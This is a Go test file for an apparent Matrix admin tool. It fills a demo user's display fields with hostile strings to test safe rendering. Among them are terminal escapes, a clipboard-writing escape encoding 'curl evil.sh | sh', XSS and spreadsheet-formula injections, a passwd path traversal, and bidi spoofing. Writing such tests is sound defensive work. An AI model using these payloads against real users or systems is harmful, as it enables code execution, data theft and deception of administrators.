package matrixadmintest

import (
	_ "embed"
	"encoding/json"
	"strconv"
	"strings"
	"time"
)

// demoHostile are texts that attack a terminal, a log, a shell or a reader.
//
//go:embed testdata/demo/hostile.jsonl
var demoHostile string

func hostileTexts() []string {
	var out []string
	for line := range strings.Lines(demoHostile) {
		var entry struct {
			Value string `json:"value"`
		}
		if json.Unmarshal([]byte(line), &entry) == nil {
			out = append(out, entry.Value)
		}
	}
	return append(out,
		strings.Repeat("A", 8192),
		"z\u0351\u036b\u0343a\u0334l\u0337g\u0338o",
		"user\u202egnp.exe\u202c", "ad\u200bm\u2060in", "a\u2066b\u2069c", "\u001b[31mRED\u001b[0m",
	)
}

// mallory is hostile in every field that a list shows.
func (d *demo) mallory() User {
	when := d.ago(12 * day)
	return User{
		ID:          d.id("mallory"),
		DisplayName: "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07\x1b[2JM\u202eyrolla\u202c\u200b\u0301\u009b31m\r\n@admin:" + d.h.serverName,
		AvatarURL:   "\x1b]8;;https://evil.example/\x07mxc\x1b]8;;\x07",
		Password:    "demo-mallory-1",
		Created:     d.ago(33 * day),
		LastSeen:    d.ago(90 * time.Second),
		ThreePIDs: []ThreePID{
			{Medium: "email", Address: "\x1b[31mred\x1b[0m@evil.example", Validated: when, Added: when},
			{Medium: "email", Address: "line1\nline2@evil.example", Validated: when, Added: when},
			{Medium: "msisdn", Address: "\u202e000009007744", Validated: when, Added: when},
		},
		ExternalIDs: []ExternalID{
			{AuthProvider: "oidc\x1b[2J", ExternalID: "=HYPERLINK(\"http://evil.example\",\"x\")"},
			{AuthProvider: "saml", ExternalID: "../../../etc/passwd\x00"},
		},
		InvitesSent: 512, RoomsJoined: 99, Consent: "\x1b[2J1.0\u202e", Consented: when, UserType: "\x1b[31mtype\u202e",
	}
}

// fillMallory puts each hostile text in each field of devices, connections and rooms.
func (d *demo) fillMallory(u *user) {
	r := d.source(u)
	texts := hostileTexts()
	u.Rooms = d.rooms(r, 3)
	var conns []Connection
	at := u.LastSeen
	for i, text := range texts {
		home := "203.0.113." + strconv.Itoa(100+i%100)
		conns = append(conns,
			Connection{IP: home, UserAgent: text, LastSeen: at},
			Connection{IP: text, UserAgent: agentFirefox, LastSeen: at.Add(-7 * time.Minute)},
		)
		u.Devices = append(u.Devices, Device{
			ID: clip(text, 512), DisplayName: clip(text, 100), LastSeen: at, LastSeenIP: text, LastSeenUserAgent: text,
		})
		u.Rooms = append(u.Rooms, "!"+clip(text, 200)+":evil.example")
		at = at.Add(-4 * time.Hour)
	}
	for _, ip := range []string{
		"unknown", "-", "", "127.0.0.1\x1b[2J", "192.0.2.44:51514", "[2001:db8::5]:443", "fe80::1%eth0",
		"::ffff:192.0.2.128", "2001:DB8:0:0:8:800:200C:417A", "<script>alert(1)</script>", strings.Repeat("N", 8192),
	} {
		conns = append(conns, Connection{IP: ip, UserAgent: agentBot, LastSeen: at})
		at = at.Add(-time.Hour)
	}
	d.h.addRows(u, conns)
}

// clip cuts a text to the length that the server allows.
func clip(s string, most int) string {
	r := []rune(s)
	return string(r[:min(most, len(r))])
}
